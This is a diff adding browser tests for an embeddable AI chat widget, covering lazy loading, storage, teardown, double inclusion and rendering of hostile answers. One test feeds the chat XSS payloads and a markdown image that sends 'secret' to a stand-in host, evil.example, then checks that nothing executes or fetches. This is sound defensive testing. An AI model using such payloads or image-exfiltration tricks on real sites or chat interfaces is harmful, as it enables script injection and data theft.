@@ -1,0 +1,98 @@
+"""The widget as a guest on the page: nothing before it is wanted, nothing after it is gone."""
+
+from __future__ import annotations
+
+from bubble import Bubble
+from conftest import open_shop
+from playwright.sync_api import BrowserContext, Page, Request, expect
+from stack import Stack
+
+_TRACES = """() => ({
+    globals: Object.getOwnPropertyNames(window).filter((name) => !(name in document.createElement('iframe'))).sort(),
+    nodes: document.documentElement.outerHTML,
+    storage: [...Object.keys(localStorage), ...Object.keys(sessionStorage)].sort(),
+    scroll: [scrollX, scrollY],
+    title: document.title,
+})"""
+
+
+def test_before_it_is_wanted_only_the_launcher_is_fetched(context: BrowserContext, stack: Stack) -> None:
+    page = context.new_page()
+    asked: list[Request] = []
+    page.on("request", asked.append)
+    page.goto(stack.site + "/")
+    chat = Bubble(page)
+    expect(chat.launcher).to_be_visible()
+    page.wait_for_timeout(300)
+    ours = [request.url for request in asked if request.url.startswith(stack.widget_origin)]
+    assert ours == [f"{stack.widget_origin}/api/ai/widget.js"]
+    assert page.evaluate("() => [localStorage.length, sessionStorage.length, document.cookie]") == [0, 0, ""]
+
+
+def test_the_chat_is_fetched_when_the_pointer_comes_near(page: Page) -> None:
+    chat = Bubble(page)
+    with page.expect_response(lambda response: "/assets/chat." in response.url) as fetched:
+        chat.launcher.hover()
+    assert fetched.value.ok
+    expect(chat.panel).to_be_hidden()
+
+
+def test_nothing_is_stored_until_a_question_is_asked(page: Page) -> None:
+    chat = Bubble(page).open()
+    assert page.evaluate("() => localStorage.length + sessionStorage.length") == 0
+    chat.ask("say: Now.")
+    expect(chat.answers.last).to_have_text("Now.")
+    assert page.evaluate("() => document.cookie") == ""
+
+
+def test_destroy_leaves_nothing(context: BrowserContext, stack: Stack) -> None:
+    page = context.new_page()
+    page.route("**/widget.js", lambda route: route.fulfill(body="", content_type="text/javascript"))
+    page.goto(stack.site + "/")
+    before = page.evaluate(_TRACES)
+    page.unroute("**/widget.js")
+    page.goto(stack.site + "/")
+    Bubble(page).open()
+    page.evaluate("() => Chatbubble('destroy')")
+    expect(page.locator("chat-bubble")).to_have_count(0)
+    assert page.evaluate(_TRACES) == before
+
+
+def test_including_it_twice_is_harmless(context: BrowserContext, stack: Stack) -> None:
+    page = open_shop(context, stack)
+    page.evaluate(
+        """async () => {
+            const again = document.createElement('script');
+            again.setAttribute('async', '');
+            const loaded = new Promise((resolve) => again.addEventListener('load', resolve));
+            const old = document.querySelector('script[src$="widget.js"]');
+            old.parentNode.insertBefore(old.cloneNode(), old);
+            again.remove();
+        }"""
+    )
+    page.wait_for_timeout(300)
+    expect(page.locator("chat-bubble")).to_have_count(1)
+
+
+def test_hostile_answers_stay_text(context: BrowserContext, page: Page, stack: Stack) -> None:
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    chat = Bubble(page).open()
+    chat.ask(
+        "say: <img src=x onerror=alert(1)> <script>alert(2)</script> [a](javascript:alert(3)) "
+        "![pixel](https://evil.example/p.png?q=secret) [fine](https://shop.example/a)"
+    )
+    expect(chat.answers.last.get_by_role("link", name="fine")).to_have_attribute("href", "https://shop.example/a")
+    bubble = chat.answers.last
+    expect(bubble).to_contain_text("<img src=x onerror=alert(1)> <script>alert(2)</script>")
+    for tag in ("img", "script", "iframe", "[href^='javascript' i]"):
+        expect(bubble.locator(tag)).to_have_count(0)
+    assert not [url for url in asked if "evil.example" in url]
+
+
+def test_the_global_opens_and_asks(page: Page) -> None:
+    page.evaluate("() => { Chatbubble('open'); Chatbubble('ask', 'say: Asked by the page.'); }")
+    chat = Bubble(page)
+    expect(chat.answers.last).to_have_text("Asked by the page.")
+    page.evaluate("() => Chatbubble('close')")
+    expect(chat.panel).to_be_hidden()
